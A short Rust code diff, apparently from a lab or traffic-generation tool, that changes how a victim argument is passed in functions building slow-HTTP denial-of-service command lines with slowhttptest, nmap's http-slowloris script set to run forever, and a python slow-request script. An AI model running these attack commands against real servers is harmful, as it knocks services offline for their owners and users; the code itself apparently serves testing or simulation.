@@ -21,7 +21,7 @@ fn slowhttptest(rng: &mut Rng, site: &Site, number: u32) -> Attack {
         "exec slowhttptest {} -c {count} -r {rate} -i {interval} -l {seconds} -u http://{victim}/f300",
         way(&ways, number)
     );
-    Attack::new(&SLOWHTTPTEST, site, victim, seconds + 5, line)
+    Attack::new(&SLOWHTTPTEST, site, &victim, seconds + 5, line)
 }
 
 fn nmap(rng: &mut Rng, site: &Site, _: u32) -> Attack {
@@ -31,7 +31,7 @@ fn nmap(rng: &mut Rng, site: &Site, _: u32) -> Attack {
         "exec nmap -n -Pn -p 80 --max-parallelism {most} --script http-slowloris \
          --script-args http-slowloris.runforever=true,http-slowloris.send_interval={interval}s {victim}"
     );
-    Attack::new(&NMAP, site, victim, seconds, line)
+    Attack::new(&NMAP, site, &victim, seconds, line)
 }
 
 fn script(rng: &mut Rng, site: &Site, number: u32) -> Attack {
@@ -41,5 +41,5 @@ fn script(rng: &mut Rng, site: &Site, number: u32) -> Attack {
         "exec python3 $S/slow.py {victim} {count} {interval} {seconds} {}",
         way(&["get", "post", "get"], number)
     );
-    Attack::new(&SCRIPT, site, victim, seconds + 15, line)
+    Attack::new(&SCRIPT, site, &victim, seconds + 15, line)
 }
